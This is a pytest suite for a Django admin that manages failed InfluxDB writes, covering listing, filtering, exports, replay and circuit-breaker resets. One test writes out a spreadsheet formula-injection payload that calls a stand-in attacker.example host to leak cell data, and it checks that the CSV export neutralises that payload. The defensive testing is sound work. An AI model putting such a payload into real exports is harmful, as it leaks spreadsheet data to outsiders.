"""The dead-letter admin: login required, list/filter/search, payload view, actions."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User

from tasks import celery_tasks, deadletters, export, ingest
from tasks.breaker import INFLUX_BREAKER, OPEN
from tasks.models import BreakerState, Category, FailedWrite, Status
from tests.helpers import TEST_INFLUX_URL

pytestmark = pytest.mark.django_db
URL = "/admin/tasks/failedwrite/"


@pytest.fixture
def admin_client(client):
    # force_login: the login form and its throttling are not what these tests are about.
    client.force_login(User.objects.create_superuser("ops", "ops@example.org", "a-long-pw-123"))
    return client


@pytest.fixture
def letters():
    rejected = deadletters.record_lines(
        ["W,domain=sensor,entity_id=plug value=1.0 1000"],
        category=Category.REJECTED,
        error="partial write: field type conflict",
        batch_id="batch-1",
    )
    events = deadletters.record_events(
        [
            {
                "event_type": "state_changed",
                "entity_id": "sensor.kitchen",
                "state": "2",
                "attributes": {},
                "time": 2000,
            }
        ],
        category=Category.TRANSIENT,
        error="errno-111-unreachable",
        batch_id="batch-2",
    )
    raw = deadletters.record_raw("{nope", source="homeassistant", error="not JSON")
    return rejected, events, raw


def test_the_list_needs_a_login(client):
    assert client.get(URL).status_code == 302


def test_it_lists_filters_and_searches_by_entity(admin_client, letters):
    page = admin_client.get(URL).content.decode()
    assert page.count("field type conflict") == 1 and "errno-111-unreachable" in page
    filtered = admin_client.get(URL, {"category__exact": "rejected"}).content.decode()
    assert "field type conflict" in filtered and "errno-111-unreachable" not in filtered
    searched = admin_client.get(URL, {"q": "sensor.kitchen"}).content.decode()
    assert "errno-111-unreachable" in searched and "field type conflict" not in searched


def test_the_detail_page_shows_the_payload_read_only(admin_client, letters):
    page = admin_client.get(f"{URL}{letters[1].pk}/change/").content.decode()
    assert "sensor.kitchen" in page and "&quot;state&quot;: &quot;2&quot;" in page
    assert 'name="_save"' not in page
    assert admin_client.get("/admin/tasks/failedwrite/add/").status_code == 403


def test_discard_and_exports(admin_client, letters):
    ids = [str(letter.pk) for letter in letters]
    csv = admin_client.post(URL, {"action": "export_csv", "_selected_action": ids})
    assert csv["Content-Type"] == "text/csv" and b"batch-1" in csv.content
    lp = admin_client.post(URL, {"action": "export_line_protocol", "_selected_action": ids})
    lines = lp.content.decode().splitlines()
    assert lines == [
        "W,domain=sensor,entity_id=plug value=1.0 1000",
        "sensor.kitchen,domain=sensor,entity_id=kitchen value=2.0 2000",
    ]
    admin_client.post(URL, {"action": "discard", "_selected_action": [ids[2]]})
    assert FailedWrite.objects.get(pk=ids[2]).status == Status.DISCARDED


def test_replay_action_writes_to_influxdb(admin_client, letters, influx, settings):
    settings.INFLUX_URL, settings.INFLUX_DATABASE = TEST_INFLUX_URL, influx.database
    ingest.reset_process_state()
    admin_client.post(URL, {"action": "replay", "_selected_action": [str(letters[1].pk)]})
    ingest.reset_process_state()
    assert FailedWrite.objects.get(pk=letters[1].pk).status == Status.REPLAYED
    assert influx.points()[0]["entity_id"] == "kitchen"


def test_the_periodic_replay_waits_for_a_closed_breaker(letters, influx, settings):
    settings.INFLUX_URL, settings.INFLUX_DATABASE = TEST_INFLUX_URL, influx.database
    ingest.reset_process_state()
    BreakerState.objects.create(name=INFLUX_BREAKER, state=OPEN, failures=9)
    assert celery_tasks.replay_failed_writes.run(limit=10) == 0
    BreakerState.objects.all().delete()
    # Only retryable categories replay on their own: transient yes, rejected waits for a human.
    assert celery_tasks.replay_failed_writes.run(limit=10) == 1
    ingest.reset_process_state()
    assert FailedWrite.objects.get(pk=letters[0].pk).status == Status.PENDING


def test_the_list_shows_entity_ids(admin_client, letters):
    page = admin_client.get(URL).content.decode()
    assert 'class="column-entities"' in page
    assert '<td class="field-entities">sensor.kitchen</td>' in page
    assert '<td class="field-entities">sensor.plug</td>' in page


def test_the_detail_shows_event_times_not_nanoseconds(admin_client):
    letter = deadletters.record_events(
        [
            {
                "event_type": "state_changed",
                "entity_id": "sensor.a",
                "time": 1_767_614_400_123_456_789,
            },
            {
                "event_type": "state_changed",
                "entity_id": "sensor.b",
                "time": 1_767_614_460_000_000_000,
            },
        ],
        category=Category.TRANSIENT,
        error="x",
        batch_id="b",
    )
    page = admin_client.get(f"{URL}{letter.pk}/change/").content.decode()
    assert "2026-01-05 12:00:00.123 to 2026-01-05 12:01:00.000" in page
    lines = deadletters.record_lines(
        ["W,domain=sensor,entity_id=plug value=1.0 1767614400000000000"],
        category=Category.REJECTED,
        error="x",
        batch_id="c",
    )
    page = admin_client.get(f"{URL}{lines.pk}/change/").content.decode()
    assert "2026-01-05 12:00:00.000" in page


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe(start):
    assert export.csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_plain_cells_stay_as_they_are():
    assert export.csv_cell("sensor.kitchen") == "sensor.kitchen"
    assert export.csv_cell(12) == "12" and export.csv_cell(None) == ""
    assert export.csv_cell("a=b") == "a=b"


def test_the_csv_export_neutralises_formula_payloads(admin_client):
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    raw = deadletters.record_raw(formula, source="mqtt", error="@SUM(1+1)", context="-2+3")
    response = admin_client.post(URL, {"action": "export_csv", "_selected_action": [raw.pk]})
    header, row = list(csv.reader(io.StringIO(response.content.decode())))
    cells = dict(zip(header, row, strict=True))
    assert cells["payload"] == "'" + formula
    assert cells["error"] == "'@SUM(1+1)" and cells["entity_ids"] == "'-2+3"
    assert cells["category"] == "unparseable" and cells["first_failed_at"].startswith("20")


BREAKERS = "/admin/tasks/breakerstate/"


def test_a_closed_breaker_is_listed_and_an_open_one_resets(admin_client):
    page = admin_client.get(BREAKERS).content.decode()
    assert "influxdb" in page and '<td class="field-state">closed</td>' in page
    BreakerState.objects.filter(name=INFLUX_BREAKER).update(state=OPEN, failures=7)
    response = admin_client.post(
        BREAKERS, {"action": "reset", "_selected_action": [INFLUX_BREAKER]}, follow=True
    )
    row = BreakerState.objects.get(name=INFLUX_BREAKER)
    assert (row.state, row.failures, row.opened_at) == ("closed", 0, None)
    assert "1 breaker(s) reset to closed" in response.content.decode()


def test_resetting_a_breaker_needs_the_change_permission(client):
    viewer = User.objects.create_user("viewer", password="a-long-password-123", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_breakerstate"))
    client.force_login(viewer)
    BreakerState.objects.create(name=INFLUX_BREAKER, state=OPEN, failures=7)
    assert 'value="reset"' not in client.get(BREAKERS).content.decode()
    client.post(BREAKERS, {"action": "reset", "_selected_action": [INFLUX_BREAKER]})
    assert BreakerState.objects.get(name=INFLUX_BREAKER).state == OPEN
